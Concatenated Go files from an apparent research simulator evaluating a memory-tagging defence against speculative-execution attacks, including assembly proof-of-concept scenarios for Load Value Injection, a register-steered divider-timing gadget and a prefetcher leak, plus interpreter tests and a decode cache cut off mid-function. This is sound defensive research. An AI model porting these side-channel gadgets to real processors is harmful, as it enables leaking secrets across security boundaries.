		Name:  "Broken",
		Class: "Test",
		Variants: []Variant{
			{Name: "ok", Build: SpectrePHT().Variants[0].Build},
			{Name: "broken", Build: func() (*Scenario, error) { return nil, buildErr }},
		},
	}
	v, outs, err := a.Evaluate(core.Unsafe)
	if err == nil {
		t.Fatal("Evaluate must surface the variant build error")
	}
	if !errors.Is(err, buildErr) {
		t.Fatalf("error %v does not wrap the build error", err)
	}
	if !strings.Contains(err.Error(), "Broken/broken") {
		t.Fatalf("error %q does not name attack/variant", err)
	}
	if outs != nil || v != VerdictNone {
		t.Fatalf("failed Evaluate must return (VerdictNone, nil): got (%v, %v)", v, outs)
	}
}
