package attacks

// Beyond-Table-1 attacks from the paper's §6 discussion: Load Value
// Injection (partially mitigable — the buffer-injection mechanism is
// blocked by tag validation, register-targeted variants are not) and the
// hardware-prefetcher channel (closed by the checked-prefetcher extension
// the paper leaves to future work).

import (
	"fmt"

	"specasan/internal/asm"
	"specasan/internal/core"
	"specasan/internal/cpu"
)

// LVI builds the Load Value Injection discussion case (§6).
//
//   - buffer-inject: the victim's assisted load transiently consumes an
//     attacker-planted in-flight LFB value and uses it as an index into its
//     own (uniformly tagged) buffer, steering a tag-valid access to an
//     intra-allocation secret. SpecASan blocks the *injection*: the
//     victim's tagged pointer cannot consume the attacker's untagged
//     in-flight line.
//   - register-steer: the secret is already in a register from a committed
//     access; a mistrained branch runs a divider-timing gadget on it.
//     No memory access is involved, so no tag check can intervene — the
//     paper's "cannot be mitigated" case.
func LVI() *Attack {
	bufferInject := func() (*Scenario, error) {
		prog, err := asm.Assemble(expand(`
_start:
    ADR  X22, probe
    MOV  X21, #@VBASE@
    LDG  X21, [X21]        // victim's tagged buffer (secret lives inside it)
    LDR  X14, [X21, #128]  // victim warms the deep end of its buffer
    DSB                    // (the first line is being remapped: assisted)
    ADR  X19, plant
    LDR  X3, [X19]         // attacker: own line in flight, content = 128
    MOV  X26, X21          // victim's valid pointer into the assist page
    EOR  X1, X1, X1
    ORR  X26, X26, X1      // short delay: sample while the plant is in flight
    LDR  X4, [X26]         // victim's ASSISTED load: receives the injection
    AND  X4, X4, #255
    LDR  X5, [X21, X4]     // steered, tag-valid access inside the allocation
@TRANSMIT@
    SVC  #0
handler:
    BTI
    SVC  #0

    .org 0x140000
plant:
    .word 128              // the injected index: &victim_buf[128] == secret
@DATA@
`, map[string]string{
			"VBASE":    fmt.Sprint(Array1Addr),
			"TRANSMIT": transmitSeq,
			"DATA":     pocDataSection,
		}))
		if err != nil {
			return nil, err
		}
		return &Scenario{Prog: prog, Setup: func(m *cpu.Machine) {
			// The whole victim buffer (array + the secret past it) carries
			// ONE tag: MTE cannot subdivide an allocation, so the steered
			// access is tag-valid — only blocking the injection helps.
			m.Img.WriteU64(SecretAddr, SecretValue)
			m.Img.Tags.SetRange(Array1Addr, Array1Size+SecretSize, TagVictim)
			m.Oracle.MarkSecret(SecretAddr, SecretSize)
			// The victim's own buffer page is being remapped by the OS: its
			// loads take assists (the classic LVI trigger).
			m.Core(0).SetAssistRegion(Array1Addr, Array1Addr+64)
		}}, nil
	}
	// The Setup above needs the handler label; wrap Build to fix it up.
	wrapped := func() (*Scenario, error) {
		sc, err := bufferInject()
		if err != nil {
			return nil, err
		}
		handler, err := sc.Prog.LookupLabel("handler")
		if err != nil {
			return nil, err
		}
		inner := sc.Setup
		sc.Setup = func(m *cpu.Machine) {
			inner(m)
			m.Core(0).FaultHandler = handler
		}
		return sc, nil
	}

	registerSteer := func() (*Scenario, error) {
		prog, err := asm.Assemble(expand(`
_start:
    ADR  X20, size_slot
    ADR  X21, array1
    LDG  X21, [X21]
    MOV  X13, #@SECRET@
    LDG  X13, [X13]
    LDR  X7, [X13]         // committed-path secret read: X7 = secret
    DSB
    MOV  X27, #128
    MOV  X28, #8
    MOV  X12, #17
loop:
    ADR  X9, size_slot
    DC   CIVAC, X9
    DSB
    CMP  X12, #1
    CSEL X0, X27, X28, EQ
    BL   victim
    SUB  X12, X12, #1
    CBNZ X12, loop
    SVC  #0

victim:
    BTI
    LDR  X1, [X20]
    CMP  X0, X1
    B.HS vdone
    MOV  X9, #3
    SDIV X15, X7, X9       // divider timing keyed by the REGISTER secret
vdone:
    RET

    .org 0x120000
size_slot:
    .word 16
@DATA@
`, map[string]string{
			"SECRET": fmt.Sprint(SecretAddr),
			"DATA":   pocDataSection,
		}))
		if err != nil {
			return nil, err
		}
		return &Scenario{Prog: prog, Setup: setupCommon}, nil
	}

	return &Attack{
		Name:  "LVI",
		Class: "§6",
		Variants: []Variant{
			{Name: "buffer-inject", Build: wrapped},
			{Name: "register-steer", Build: registerSteer},
		},
	}
}

// PrefetchLeak demonstrates the §6 prefetcher channel: a demand miss on the
// attacker's own line makes the next-line prefetcher pull the adjacent
// secret line into the cache — a state change the attacker induced without
// any access of its own. The scenario must run on a machine with the
// prefetcher enabled (see RunPrefetchLeak).
func PrefetchLeak() (*Scenario, error) {
	prog, err := asm.Assemble(expand(`
_start:
    MOV  X21, #@MINE@
    LDG  X21, [X21]
    LDR  X1, [X21]         // demand miss right below the secret line
    SVC  #0
@DATA@
`, map[string]string{
		"MINE": fmt.Sprint(SecretAddr - 64),
		"DATA": pocDataSection,
	}))
	if err != nil {
		return nil, err
	}
	return &Scenario{Prog: prog, Setup: func(m *cpu.Machine) {
		m.Img.WriteU64(SecretAddr, SecretValue)
		m.Img.Tags.SetRange(SecretAddr-64, 64, TagVictim) // attacker-reachable
		m.Img.Tags.SetRange(SecretAddr, SecretSize, TagSecret)
		m.Oracle.MarkSecret(SecretAddr, 64)
	}}, nil
}

// RunPrefetchLeak executes the prefetcher scenario with the prefetcher on
// and the checked-prefetcher extension as given, reporting whether the
// secret line was pulled into the cache.
func RunPrefetchLeak(mit core.Mitigation, checked bool) (leaked bool, err error) {
	sc, err := PrefetchLeak()
	if err != nil {
		return false, err
	}
	cfg := core.DefaultConfig()
	cfg.PrefetcherOn = true
	cfg.PrefetchChecked = checked
	m, err := cpu.NewMachine(cfg, mit, sc.Prog)
	if err != nil {
		return false, err
	}
	sc.Setup(m)
	res := m.Run(1_000_000)
	if res.TimedOut {
		return false, fmt.Errorf("prefetch scenario timed out")
	}
	return m.Oracle.Leaked(), nil
}

// Extensions returns the §6 discussion attacks (not part of Table 1).
func Extensions() []*Attack {
	return []*Attack{LVI()}
}
