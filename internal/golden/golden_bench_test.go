package golden_test

import (
	"testing"

	"specasan/internal/golden"
	"specasan/internal/workloads"
)

// benchProg builds the perf-recipe workload (508.namd_r at scale 10, the
// same program cmd/specasan-bench -perf measures), so `go test -bench` here
// and the BENCH_sim.json golden MIPS number exercise the same hot loop.
func benchProg(tb testing.TB) *workloads.Spec {
	tb.Helper()
	spec := workloads.ByName("508.namd_r")
	if spec == nil {
		tb.Fatal("workload 508.namd_r missing")
	}
	return spec
}

// BenchmarkGoldenRun measures the functional interpreter's full-walk
// throughput with a cold basic-block cache per walk — exactly how sampled
// simulation uses it (one fresh interpreter per cell). The reported
// sim-insts/s metric is the golden MIPS headline (x 1e6).
func BenchmarkGoldenRun(b *testing.B) {
	prog, err := benchProg(b).Build(false, 10)
	if err != nil {
		b.Fatal(err)
	}
	var insts uint64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res := golden.New(prog).Run(1 << 62)
		if res.Reason != golden.StopExit {
			b.Fatalf("walk ended %v", res.Reason)
		}
		insts += res.Insts
	}
	b.StopTimer()
	b.ReportMetric(float64(insts)/b.Elapsed().Seconds(), "sim-insts/s")
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(insts), "ns/sim-inst")
}

// BenchmarkGoldenRunTouched is the same walk with a touch ring attached —
// the fast-forward configuration. The delta against BenchmarkGoldenRun is
// the price of cache-warming capture (one predictable branch plus a ring
// store per memory operation).
func BenchmarkGoldenRunTouched(b *testing.B) {
	prog, err := benchProg(b).Build(false, 10)
	if err != nil {
		b.Fatal(err)
	}
	var insts uint64
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ip := golden.New(prog)
		ip.Touch = golden.NewTouchRing(1 << 15)
		res := ip.Run(1 << 62)
		if res.Reason != golden.StopExit {
			b.Fatalf("walk ended %v", res.Reason)
		}
		insts += res.Insts
	}
	b.StopTimer()
	b.ReportMetric(float64(insts)/b.Elapsed().Seconds(), "sim-insts/s")
}
