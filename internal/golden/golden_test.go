package golden

import (
	"testing"

	"specasan/internal/asm"
	"specasan/internal/isa"
	"specasan/internal/mte"
)

func run(t *testing.T, src string) *Result {
	t.Helper()
	ip := New(asm.MustAssemble(src))
	res := ip.Run(100000)
	if res.Reason != StopExit {
		t.Fatalf("stop reason = %v (pc=%#x)", res.Reason, res.PC)
	}
	return res
}

func TestArithmetic(t *testing.T) {
	res := run(t, `
    MOV  X0, #7
    MOV  X1, #3
    ADD  X2, X0, X1
    SUB  X3, X0, X1
    MUL  X4, X0, X1
    UDIV X5, X0, X1
    AND  X6, X0, X1
    ORR  X7, X0, X1
    EOR  X8, X0, X1
    LSL  X9, X0, #4
    LSR  X10, X9, #2
    SVC #0
`)
	want := map[isa.Reg]uint64{
		isa.X2: 10, isa.X3: 4, isa.X4: 21, isa.X5: 2,
		isa.X6: 3, isa.X7: 7, isa.X8: 4, isa.X9: 112, isa.X10: 28,
	}
	for r, v := range want {
		if res.Regs[r] != v {
			t.Errorf("%v = %d, want %d", r, res.Regs[r], v)
		}
	}
}

func TestLoopAndFlags(t *testing.T) {
	res := run(t, `
    MOV X0, #0
    MOV X1, #0
loop:
    ADD X1, X1, X0
    ADD X0, X0, #1
    CMP X0, #10
    B.LT loop
    SVC #0
`)
	if res.Regs[isa.X1] != 45 {
		t.Fatalf("sum = %d, want 45", res.Regs[isa.X1])
	}
}

func TestSignedComparisons(t *testing.T) {
	res := run(t, `
    MOV X0, #-5
    CMP X0, #3
    CSEL X1, X2, X3, LT   // signed: -5 < 3 -> X2
    MOV X2, #0
    CMP X0, #3
    CSEL X4, X5, X6, LO   // unsigned: huge > 3 -> X6
    SVC #0
`)
	_ = res // CSEL picks among zero registers; real check below
	ip := New(asm.MustAssemble(`
    MOV X2, #111
    MOV X3, #222
    MOV X0, #-5
    CMP X0, #3
    CSEL X1, X2, X3, LT
    CSEL X4, X2, X3, LO
    SVC #0
`))
	r := ip.Run(1000)
	if r.Regs[isa.X1] != 111 {
		t.Errorf("signed LT pick = %d", r.Regs[isa.X1])
	}
	if r.Regs[isa.X4] != 222 {
		t.Errorf("unsigned LO pick = %d", r.Regs[isa.X4])
	}
}

func TestMemoryAndData(t *testing.T) {
	res := run(t, `
_start:
    ADR X0, nums
    LDR X1, [X0]
    LDR X2, [X0, #8]
    ADD X3, X1, X2
    STR X3, [X0, #16]
    LDR X4, [X0, #16]
    LDRB X5, [X0]
    SVC #0
    .org 0x4000
nums:
    .word 300, 14, 0
`)
	if res.Regs[isa.X4] != 314 {
		t.Fatalf("stored sum = %d", res.Regs[isa.X4])
	}
	if res.Regs[isa.X5] != 300&0xff {
		t.Fatalf("byte load = %d", res.Regs[isa.X5])
	}
}

func TestCallReturn(t *testing.T) {
	res := run(t, `
_start:
    MOV X0, #5
    BL  double
    BL  double
    SVC #0
double:
    BTI
    ADD X0, X0, X0
    RET
`)
	if res.Regs[isa.X0] != 20 {
		t.Fatalf("X0 = %d, want 20", res.Regs[isa.X0])
	}
}

func TestIndirectBranch(t *testing.T) {
	res := run(t, `
_start:
    ADR X9, target
    BR  X9
    MOV X0, #1     // skipped
    SVC #0
target:
    BTI
    MOV X0, #42
    SVC #0
`)
	if res.Regs[isa.X0] != 42 {
		t.Fatalf("X0 = %d", res.Regs[isa.X0])
	}
}

func TestMTETagging(t *testing.T) {
	ip := New(asm.MustAssemble(`
_start:
    ADR  X0, buf
    IRG  X1, X0        // tagged pointer
    STG  X1, [X1]      // tag granule 0
    MOV  X2, #99
    STR  X2, [X1]      // tagged store, must pass
    LDR  X3, [X1]      // tagged load, must pass
    SVC  #0
    .org 0x4000
buf:
    .space 32
`))
	ip.MTEOn = true
	res := ip.Run(1000)
	if res.Reason != StopExit {
		t.Fatalf("reason = %v", res.Reason)
	}
	if res.Regs[isa.X3] != 99 {
		t.Fatalf("X3 = %d", res.Regs[isa.X3])
	}
	// The pointer must carry a non-zero key.
	if mte.Key(res.Regs[isa.X1]) == 0 {
		t.Fatal("IRG produced key 0")
	}
}

func TestMTEFaultOnMismatch(t *testing.T) {
	ip := New(asm.MustAssemble(`
_start:
    ADR  X0, buf
    IRG  X1, X0
    STG  X1, [X1]
    ADDG X2, X1, #0, #1  // bump the key: now mismatched
    LDR  X3, [X2]        // must fault
    SVC  #0
    .org 0x4000
buf:
    .space 32
`))
	ip.MTEOn = true
	res := ip.Run(1000)
	if res.Reason != StopTagFault {
		t.Fatalf("reason = %v, want tag fault", res.Reason)
	}
}

func TestMTEOffNoFault(t *testing.T) {
	ip := New(asm.MustAssemble(`
_start:
    ADR  X0, buf
    IRG  X1, X0
    STG  X1, [X1]
    ADDG X2, X1, #0, #1
    LDR  X3, [X2]
    SVC  #0
    .org 0x4000
buf:
    .space 32
`))
	res := ip.Run(1000)
	if res.Reason != StopExit {
		t.Fatalf("reason = %v, want exit (MTE off)", res.Reason)
	}
}

func TestLDGReadsLock(t *testing.T) {
	ip := New(asm.MustAssemble(`
_start:
    ADR  X0, buf
    IRG  X1, X0
    STG  X1, [X1]
    MOV  X2, X0        // untagged alias
    LDG  X2, [X2]      // recover the lock into the key byte
    LDR  X3, [X2]      // now matches
    SVC  #0
    .org 0x4000
buf:
    .space 16
`))
	ip.MTEOn = true
	res := ip.Run(1000)
	if res.Reason != StopExit {
		t.Fatalf("reason = %v", res.Reason)
	}
	if mte.Key(res.Regs[isa.X2]) != mte.Key(res.Regs[isa.X1]) {
		t.Fatal("LDG did not recover the allocation tag")
	}
}

func TestSWPAL(t *testing.T) {
	res := run(t, `
_start:
    ADR X0, cell
    MOV X1, #7
    SWPAL X1, X2, [X0]   // X2 <- old (5), mem <- 7
    LDR X3, [X0]
    SVC #0
    .org 0x4000
cell:
    .word 5
`)
	if res.Regs[isa.X2] != 5 || res.Regs[isa.X3] != 7 {
		t.Fatalf("swp: old=%d new=%d", res.Regs[isa.X2], res.Regs[isa.X3])
	}
}

func TestOutput(t *testing.T) {
	res := run(t, `
    MOV X0, #123
    SVC #1
    MOV X0, #'!'
    SVC #2
    SVC #0
`)
	if string(res.Output) != "123\n!" {
		t.Fatalf("output = %q", res.Output)
	}
}

func TestStopConditions(t *testing.T) {
	ip := New(asm.MustAssemble("NOP\nNOP"))
	res := ip.Run(1)
	if res.Reason != StopMaxInsts {
		t.Fatalf("reason = %v", res.Reason)
	}
	ip = New(asm.MustAssemble("B nowhere\nnowhere:\n .word 0"))
	// branch to data: next fetch fails
	res = ip.Run(10)
	if res.Reason != StopBadPC {
		t.Fatalf("reason = %v", res.Reason)
	}
}

func TestMOVK(t *testing.T) {
	res := run(t, `
    MOV  X0, #0x1234
    MOVK X0, #0xabcd, LSL #16
    MOVK X0, #0x9, LSL #48
    SVC #0
`)
	if res.Regs[isa.X0] != 0x0009_0000_abcd_1234 {
		t.Fatalf("X0 = %#x", res.Regs[isa.X0])
	}
}

func TestDivideByZeroIsZero(t *testing.T) {
	res := run(t, `
    MOV X0, #7
    MOV X1, #0
    UDIV X2, X0, X1
    SDIV X3, X0, X1
    SVC #0
`)
	if res.Regs[isa.X2] != 0 || res.Regs[isa.X3] != 0 {
		t.Fatal("ARM division by zero yields 0")
	}
}

func TestGMIBuildsExclusionMask(t *testing.T) {
	ip := New(asm.MustAssemble(`
_start:
    ADR X0, buf
    IRG X1, X0          // first colour
    GMI X2, X1, XZR     // exclude it
    IRG X3, X0, X2      // second colour must differ
    SVC #0
    .org 0x4000
buf:
    .space 16
`))
	res := ip.Run(1000)
	k1, k3 := mte.Key(res.Regs[isa.X1]), mte.Key(res.Regs[isa.X3])
	if k1 == k3 {
		t.Fatalf("GMI exclusion failed: both colours %d", k1)
	}
}

func TestSTRBTruncates(t *testing.T) {
	res := run(t, `
_start:
    ADR X0, buf
    MOV X1, #0x1ff
    STRB X1, [X0]
    LDR X2, [X0]
    SVC #0
    .org 0x4000
buf:
    .word 0
`)
	if res.Regs[isa.X2] != 0xff {
		t.Fatalf("byte store truncation: %#x", res.Regs[isa.X2])
	}
}

func TestCycleCounterMonotonic(t *testing.T) {
	res := run(t, `
    MRS X0, CNTVCT_EL0
    NOP
    NOP
    MRS X1, CNTVCT_EL0
    SVC #0
`)
	if res.Regs[isa.X1] <= res.Regs[isa.X0] {
		t.Fatal("cycle counter must advance")
	}
}

func TestRunWithSharedImage(t *testing.T) {
	prog := asm.MustAssemble(`
_start:
    ADR X0, cell
    LDR X1, [X0]
    ADD X1, X1, #1
    STR X1, [X0]
    SVC #0
    .org 0x4000
cell:
    .word 0
`)
	ip1 := New(prog)
	ip1.Run(100)
	ip2 := NewWithImage(prog, ip1.Mem)
	res := ip2.Run(100)
	if res.Reason != StopExit {
		t.Fatal(res.Reason)
	}
	if got := ip1.Mem.ReadU64(prog.MustLabel("cell")); got != 2 {
		t.Fatalf("shared image cell = %d, want 2", got)
	}
}
