// Basic-block decode cache for the golden interpreter.
//
// The interpreter's original per-instruction loop re-resolved the PC into a
// *isa.Inst on every step (a linear scan over the program's code blocks) and
// re-derived operand kinds (HasImm, XZR handling) inside one large switch.
// Now that golden is a fast-forward engine and not just a test oracle, that
// overhead dominates. This file pre-translates each basic block into a flat
// slice of micro-ops ("uops") with operands resolved at decode time, executes
// them in a tight loop with a one-entry page TLB on the memory path, and
// chains blocks along fallthrough/taken edges so steady-state dispatch never
// touches the program structure or a map.
//
// Correctness story: runNaive in golden.go keeps the original one-inst-at-a-
// time loop, and tests assert the two engines are bit-identical (registers,
// flags, memory, tags, output, stop metadata) at every instruction boundary,
// including budget stops that land mid-block.
package golden

import (
	"encoding/binary"

	"specasan/internal/isa"
	"specasan/internal/mte"
)

// uopKind discriminates pre-decoded micro-ops. Hot ALU and branch forms get
// specialized kinds with semantics inlined in exec; everything else funnels
// through the shared isa.EvalALU helper so the semantic truth stays single-
// sourced for the rare ops.
type uopKind uint8

const (
	uNop      uopKind = iota // NOP/BTI/YIELD/ISB/DSB/DC
	uMovImm                  // rd = imm
	uMovReg                  // rd = rn
	uAddImm                  // rd = rn + imm
	uAddReg                  // rd = rn + rm
	uSubImm                  // rd = rn - imm
	uSubReg                  // rd = rn - rm
	uAndImm                  // rd = rn & imm
	uAndReg                  // rd = rn & rm
	uEorReg                  // rd = rn ^ rm
	uOrrReg                  // rd = rn | rm
	uLslImm                  // rd = rn << imm (shift-saturating)
	uLsrImm                  // rd = rn >> imm
	uMulReg                  // rd = rn * rm
	uCmpImm                  // flags = subFlags(rn, imm)
	uCmpReg                  // flags = subFlags(rn, rm)
	uAluEval                 // any remaining data-processing op via isa.EvalALU
	uLdrImm                  // rd = mem64[rn + imm]
	uLdrReg                  // rd = mem64[rn + rm]
	uLdrbImm                 // rd = mem8[rn + imm]
	uLdrbReg                 // rd = mem8[rn + rm]
	uStrImm                  // mem64[rn + imm] = rd
	uStrReg                  // mem64[rn + rm] = rd
	uStrbImm                 // mem8[rn + imm] = rd
	uStrbReg                 // mem8[rn + rm] = rd
	uSwpal                   // atomic swap
	uStg                     // set one granule lock
	uSt2g                    // set two granule locks
	uLdg                     // load granule lock into pointer key
	uMrs                     // rd = synthetic cycle counter
	uSvcPrint                // SVC #1 / #2 output append
	// Terminators: at most one per block, always last. translate relies on
	// uSvcExit being the first terminator kind.
	uSvcExit // SVC #0 / HLT
	uB       // unconditional direct branch
	uBL      // direct call: link then branch
	uBcc     // conditional direct branch
	uCbz     // compare-and-branch on zero
	uCbnz    // compare-and-branch on non-zero
	uBrInd   // indirect branch (BR)
	uBlrInd  // indirect call (BLR)
	uRetInd  // return (RET)
)

// uop is one pre-decoded micro-op. Register fields are direct indices into
// the regs array (reads rely on the regs[XZR]==0 invariant; writes to XZR
// are guarded in exec).
type uop struct {
	kind uopKind
	rd   isa.Reg
	rn   isa.Reg
	rm   isa.Reg
	cond isa.Cond  // uBcc condition
	imm  uint64    // immediate / shift amount / static branch target
	in   *isa.Inst // original instruction for uAluEval/uSvcPrint paths
}

// bblock is a decoded basic block: straight-line uops ending at the first
// control-flow instruction, SVC/HLT, or the end of the assembler code block.
type bblock struct {
	addr uint64
	uops []uop
	// next chains to the block at addr+len*InstBytes (fallthrough and
	// not-taken conditional edges); takenBlk chains the static taken edge of
	// a terminating direct branch. Both resolve lazily on first use.
	next     *bblock
	takenBlk *bblock
}

func (b *bblock) endAddr() uint64 {
	return b.addr + uint64(len(b.uops))*isa.InstBytes
}

// blockAt returns the decoded block starting at pc, translating it on first
// use. Returns nil when pc is not a code address.
func (ip *Interp) blockAt(pc uint64) *bblock {
	if b := ip.blocks[pc]; b != nil {
		return b
	}
	return ip.decodeBlock(pc)
}

func (ip *Interp) decodeBlock(pc uint64) *bblock {
	insts := ip.Src.InstsFrom(pc)
	if insts == nil {
		return nil
	}
	b := &bblock{addr: pc, uops: make([]uop, 0, 16)}
	for i := range insts {
		u := translate(&insts[i])
		b.uops = append(b.uops, u)
		if u.kind >= uSvcExit {
			break
		}
	}
	if ip.blocks == nil {
		ip.blocks = make(map[uint64]*bblock)
	}
	ip.blocks[pc] = b
	return b
}

// translate pre-decodes one instruction into a uop.
func translate(in *isa.Inst) uop {
	u := uop{rd: in.Rd, rn: in.Rn, rm: in.Rm, cond: in.Cond,
		imm: uint64(in.Imm), in: in}
	switch in.Op {
	case isa.NOP, isa.BTI, isa.YIELD, isa.ISB, isa.DSB, isa.DC:
		u.kind = uNop
	case isa.MOV:
		u.kind = pick(in.HasImm, uMovImm, uMovReg)
	case isa.ADD:
		u.kind = pick(in.HasImm, uAddImm, uAddReg)
	case isa.SUB:
		u.kind = pick(in.HasImm, uSubImm, uSubReg)
	case isa.AND:
		u.kind = pick(in.HasImm, uAndImm, uAndReg)
	case isa.EOR:
		u.kind = pick(in.HasImm, uAluEval, uEorReg)
	case isa.ORR:
		u.kind = pick(in.HasImm, uAluEval, uOrrReg)
	case isa.LSL:
		u.kind = pick(in.HasImm, uLslImm, uAluEval)
	case isa.LSR:
		u.kind = pick(in.HasImm, uLsrImm, uAluEval)
	case isa.MUL:
		u.kind = pick(in.HasImm, uAluEval, uMulReg)
	case isa.CMP:
		u.kind = pick(in.HasImm, uCmpImm, uCmpReg)
	case isa.MOVK, isa.ADDS, isa.SUBS, isa.ASR, isa.UDIV, isa.SDIV,
		isa.CSEL, isa.IRG, isa.ADDG, isa.SUBG, isa.GMI:
		u.kind = uAluEval
	case isa.LDR:
		u.kind = pick(in.HasImm, uLdrImm, uLdrReg)
	case isa.LDRB:
		u.kind = pick(in.HasImm, uLdrbImm, uLdrbReg)
	case isa.STR:
		u.kind = pick(in.HasImm, uStrImm, uStrReg)
	case isa.STRB:
		u.kind = pick(in.HasImm, uStrbImm, uStrbReg)
	case isa.SWPAL:
		u.kind = uSwpal
	case isa.STG:
		u.kind = uStg
	case isa.ST2G:
		u.kind = uSt2g
	case isa.LDG:
		u.kind = uLdg
	case isa.MRS:
		u.kind = uMrs
	case isa.SVC:
		u.kind = pick(in.Imm == 0, uSvcExit, uSvcPrint)
	case isa.HLT:
		u.kind = uSvcExit
	case isa.B:
		u.kind = uB
	case isa.BL:
		u.kind = uBL
	case isa.BCC:
		u.kind = uBcc
	case isa.CBZ:
		u.kind = uCbz
	case isa.CBNZ:
		u.kind = uCbnz
	case isa.BR:
		u.kind = uBrInd
	case isa.BLR:
		u.kind = uBlrInd
	case isa.RET:
		u.kind = uRetInd
	default:
		// Unknown op: architecturally a no-op, matching the naive loop's
		// default-free switch.
		u.kind = uNop
	}
	return u
}

func pick(cond bool, a, b uopKind) uopKind {
	if cond {
		return a
	}
	return b
}

// ctrlKind says how a block's execution ended.
type ctrlKind uint8

const (
	ctrlFallthrough ctrlKind = iota // ran off the end (or budget exhausted)
	ctrlTaken                       // direct branch taken: follow takenBlk
	ctrlIndirect                    // indirect branch: look up ip.pc
	ctrlStop                        // StopExit/StopTagFault raised
)

// exec runs up to limit uops of b (limit <= len(b.uops)), starting from the
// block head. It returns the number of instructions retired and how control
// left the block. ip.pc and ip.cycles are synchronized before returning;
// within the loop they are carried implicitly (pc = b.addr + i*4) so the hot
// path touches no interpreter fields it does not need.
func (ip *Interp) exec(b *bblock, limit int, stopReason *StopReason) (retired uint64, ctrl ctrlKind) {
	regs := &ip.regs
	baseCycles := ip.cycles
	uops := b.uops[:limit]
	for i := range uops {
		u := &uops[i]
		switch u.kind {
		case uNop:
		case uMovImm:
			if u.rd != isa.XZR {
				regs[u.rd] = u.imm
			}
		case uMovReg:
			if u.rd != isa.XZR {
				regs[u.rd] = regs[u.rn]
			}
		case uAddImm:
			if u.rd != isa.XZR {
				regs[u.rd] = regs[u.rn] + u.imm
			}
		case uAddReg:
			if u.rd != isa.XZR {
				regs[u.rd] = regs[u.rn] + regs[u.rm]
			}
		case uSubImm:
			if u.rd != isa.XZR {
				regs[u.rd] = regs[u.rn] - u.imm
			}
		case uSubReg:
			if u.rd != isa.XZR {
				regs[u.rd] = regs[u.rn] - regs[u.rm]
			}
		case uAndImm:
			if u.rd != isa.XZR {
				regs[u.rd] = regs[u.rn] & u.imm
			}
		case uAndReg:
			if u.rd != isa.XZR {
				regs[u.rd] = regs[u.rn] & regs[u.rm]
			}
		case uEorReg:
			if u.rd != isa.XZR {
				regs[u.rd] = regs[u.rn] ^ regs[u.rm]
			}
		case uOrrReg:
			if u.rd != isa.XZR {
				regs[u.rd] = regs[u.rn] | regs[u.rm]
			}
		case uLslImm:
			if u.rd != isa.XZR {
				regs[u.rd] = shlSat(regs[u.rn], u.imm)
			}
		case uLsrImm:
			if u.rd != isa.XZR {
				regs[u.rd] = shrSat(regs[u.rn], u.imm)
			}
		case uMulReg:
			if u.rd != isa.XZR {
				regs[u.rd] = regs[u.rn] * regs[u.rm]
			}
		case uCmpImm:
			ip.flags = subFlagsOnly(regs[u.rn], u.imm)
		case uCmpReg:
			ip.flags = subFlagsOnly(regs[u.rn], regs[u.rm])
		case uAluEval:
			in := u.in
			rm := regs[u.rm]
			if in.HasImm {
				rm = uint64(in.Imm)
			}
			res := isa.EvalALU(in, isa.ALUInputs{
				Rn: regs[u.rn], Rm: rm, OldRd: regs[u.rd],
				Flags: ip.flags, TagSeed: ip.TagSeed,
			})
			if u.rd != isa.XZR {
				regs[u.rd] = res.Value
			}
			if res.WritesFlags {
				ip.flags = res.Flags
			}
		case uLdrImm:
			v, ok := ip.load64(regs[u.rn] + u.imm)
			if !ok {
				return ip.raise(b, i, baseCycles, StopTagFault, stopReason)
			}
			if u.rd != isa.XZR {
				regs[u.rd] = v
			}
		case uLdrReg:
			v, ok := ip.load64(regs[u.rn] + regs[u.rm])
			if !ok {
				return ip.raise(b, i, baseCycles, StopTagFault, stopReason)
			}
			if u.rd != isa.XZR {
				regs[u.rd] = v
			}
		case uLdrbImm:
			v, ok := ip.load8(regs[u.rn] + u.imm)
			if !ok {
				return ip.raise(b, i, baseCycles, StopTagFault, stopReason)
			}
			if u.rd != isa.XZR {
				regs[u.rd] = v
			}
		case uLdrbReg:
			v, ok := ip.load8(regs[u.rn] + regs[u.rm])
			if !ok {
				return ip.raise(b, i, baseCycles, StopTagFault, stopReason)
			}
			if u.rd != isa.XZR {
				regs[u.rd] = v
			}
		case uStrImm:
			if !ip.store64(regs[u.rn]+u.imm, regs[u.rd]) {
				return ip.raise(b, i, baseCycles, StopTagFault, stopReason)
			}
		case uStrReg:
			if !ip.store64(regs[u.rn]+regs[u.rm], regs[u.rd]) {
				return ip.raise(b, i, baseCycles, StopTagFault, stopReason)
			}
		case uStrbImm:
			if !ip.store8(regs[u.rn]+u.imm, byte(regs[u.rd])) {
				return ip.raise(b, i, baseCycles, StopTagFault, stopReason)
			}
		case uStrbReg:
			if !ip.store8(regs[u.rn]+regs[u.rm], byte(regs[u.rd])) {
				return ip.raise(b, i, baseCycles, StopTagFault, stopReason)
			}
		case uSwpal:
			addr := regs[u.rn]
			m := ip.Mem
			if ip.Touch != nil {
				ip.Touch.add(mte.Strip(addr)&^3 | touchWrite)
			}
			if ip.MTEOn && !m.Tags.CheckAccess(addr, 8) {
				return ip.raise(b, i, baseCycles, StopTagFault, stopReason)
			}
			old := m.ReadU64(mte.Strip(addr))
			m.WriteU64(mte.Strip(addr), regs[u.rd])
			if u.rm != isa.XZR {
				regs[u.rm] = old
			}
		case uStg:
			ip.Mem.Tags.SetLock(regs[u.rn], mte.Key(regs[u.rd]))
		case uSt2g:
			addr := regs[u.rn]
			t := mte.Key(regs[u.rd])
			ip.Mem.Tags.SetLock(addr, t)
			ip.Mem.Tags.SetLock(mte.AlignGranule(addr)+mte.GranuleBytes, t)
		case uLdg:
			lock := ip.Mem.Tags.Lock(regs[u.rn])
			if u.rd != isa.XZR {
				regs[u.rd] = mte.WithKey(regs[u.rd], lock)
			}
		case uMrs:
			// The synthetic cycle counter is 1 per retired instruction,
			// incremented before the instruction executes (matching the
			// naive loop's ip.cycles++ then step ordering).
			if u.rd != isa.XZR {
				regs[u.rd] = baseCycles + uint64(i) + 1
			}
		case uSvcPrint:
			ip.svcPrint(u.in.Imm)
		case uSvcExit:
			return ip.raise(b, i, baseCycles, StopExit, stopReason)
		case uB:
			ip.cycles = baseCycles + uint64(i) + 1
			ip.pc = u.imm
			return uint64(i) + 1, ctrlTaken
		case uBL:
			regs[isa.LR] = b.addr + uint64(i+1)*isa.InstBytes
			ip.cycles = baseCycles + uint64(i) + 1
			ip.pc = u.imm
			return uint64(i) + 1, ctrlTaken
		case uBcc:
			ip.cycles = baseCycles + uint64(i) + 1
